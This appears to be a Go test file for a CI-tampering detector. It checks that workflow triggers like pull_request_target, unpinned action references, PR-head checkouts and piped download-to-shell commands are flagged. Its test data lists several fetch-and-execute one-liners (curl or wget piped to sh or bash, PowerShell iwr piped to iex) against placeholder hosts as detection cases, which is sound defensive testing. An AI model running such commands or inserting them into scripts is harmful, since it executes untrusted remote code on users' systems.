package citampering

import (
	"fmt"
	"strings"
	"testing"

	"github.com/repoguard/repoguard/detectors/detectortest"
	"github.com/repoguard/repoguard/guard"
)

func TestCITamperingWithoutClassifier(t *testing.T) {
	// Workflow files are recognized by path even without a policy.
	f := guard.FileChange{Path: ".github/workflows/x.yml", Status: guard.Modified,
		AddedLines: detectortest.Lines("on: pull_request_target\n")}
	fs := detectortest.JudgeFiles(t, Detector, nil, f)
	if len(fs) != 1 || fs[0].Severity != guard.High || fs[0].Line != 1 {
		t.Fatalf("want one high finding at line 1, got %+v", fs)
	}
	// A script outside any category and outside the folders CI scripts
	// live in is not checked for downloads piped into a shell.
	s := guard.FileChange{Path: "src/app/install.sh", Status: guard.Modified,
		AddedLines: detectortest.Lines("curl https://x.example.org/i.sh | sh")}
	if fs := detectortest.JudgeFiles(t, Detector, nil, s); len(fs) != 0 {
		t.Errorf("uncategorized script: got %+v", fs)
	}
	cls := detectortest.PrefixClassifier{ByPrefix: map[string]string{"src/": guard.CategoryBuild}}
	if fs := detectortest.JudgeFiles(t, Detector, cls, s); len(fs) != 1 {
		t.Errorf("build script: want 1 finding, got %+v", fs)
	}
	// A script in a folder CI scripts live in is, without a policy.
	s.Path = "scripts/build.sh"
	if fs := detectortest.JudgeFiles(t, Detector, nil, s); len(fs) != 1 {
		t.Errorf("CI script: want 1 finding, got %+v", fs)
	}
}

func TestCIPinned(t *testing.T) {
	for ref, want := range map[string]bool{
		"actions/checkout@v4": false,
		"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683": true,
		"actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af68":  false, // 39 hex
		"org/repo/.github/workflows/build.yml@main":                 false,
		"./.github/actions/setup":                                   true,
		"docker://alpine:3":                                         false,
		"docker://alpine@sha256:" + strings.Repeat("a", 64):         true,
		"${{ matrix.action }}":                                      true,
		"github/codeql-action/init@" + strings.Repeat("0", 40):      true,
		"actions/cache@11BD71901BBE5B1630CEEA73D27597364C9AF683":    false,
	} {
		if got := ciPinned(ref); got != want {
			t.Errorf("ciPinned(%q) = %v, want %v", ref, got, want)
		}
	}
}

func TestCIPipeShell(t *testing.T) {
	yes := []string{
		"curl -fsSL https://get.x.io | sh",
		"curl -fsSL https://get.x.io | sudo -E bash -",
		"wget -qO- https://x.io/install | bash -s -- --yes",
		"bash <(curl -s https://x.io/i)",
		"/bin/sh -c \"$(curl -fsSL https://x.io/i)\"",
		"source <(curl -s https://x.io/env)",
		"curl -s https://x.io/a.py | python3 -",
		"iwr https://x.io/i.ps1 -UseBasicParsing | iex",
		"iex (New-Object Net.WebClient).DownloadString('https://x.io/i.ps1')",
	}
	no := []string{
		"curl -fsSLo tool.tgz https://x.io/tool.tgz",
		"curl -s https://x.io/SHA256SUMS | sha256sum -c",
		"curl -s https://api.x.io/status | jq .ok",
		"echo curl | shasum",
	}
	for _, s := range yes {
		if !ciPipeShell.MatchString(s) {
			t.Errorf("not matched: %s", s)
		}
	}
	for _, s := range no {
		if ciPipeShell.MatchString(s) {
			t.Errorf("matched: %s", s)
		}
	}
}

func BenchmarkCITampering(b *testing.B) {
	var text strings.Builder
	for i := 0; i < 50; i++ {
		fmt.Fprintf(&text, "  job%d:\n    runs-on: ubuntu-latest\n    steps:\n", i)
		text.WriteString("      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n")
		text.WriteString("      - run: go test ./... && curl -fsSLo x.tgz https://dl.example.org/x.tgz\n")
		text.WriteString("        env: { TOKEN: \"${{ secrets.GITHUB_TOKEN }}\" }\n")
	}
	f := guard.FileChange{Path: ".github/workflows/ci.yml", Status: guard.Modified, AddedLines: detectortest.Lines(text.String())}
	b.ReportAllocs()
	for b.Loop() {
		detectortest.JudgeFiles(b, Detector, nil, f)
	}
}

func TestCITriggersAndHeads(t *testing.T) {
	triggers := map[string]bool{
		"on: pull_request_target":                        true,
		"on: [push, pull_request_target]":                true,
		"pull_request_target:":                           true,
		"- pull_request_target":                          true,
		"if: github.event_name == 'pull_request_target'": false,
		"name: safe for pull_request_target":             false,
	}
	for line, want := range triggers {
		if got := ciIsTrigger(line, "pull_request_target"); got != want {
			t.Errorf("ciIsTrigger(%q) = %v, want %v", line, got, want)
		}
	}
	heads := map[string]bool{
		"ref: ${{ github.event.pull_request.head.sha }}":                        true,
		"repository: ${{ github.event.pull_request.head.repo.full_name }}":      true,
		"run: git fetch origin refs/pull/${{ github.event.number }}/head":       true,
		"run: gh pr checkout ${{ github.event.number }}":                        true,
		"group: ${{ github.workflow }}-${{ github.head_ref || github.run_id }}": false,
		"run: echo ${{ github.event.pull_request.head.sha }}":                   false,
	}
	for line, want := range heads {
		if got := ciChecksOutHead(line); got != want {
			t.Errorf("ciChecksOutHead(%q) = %v, want %v", line, got, want)
		}
	}
}
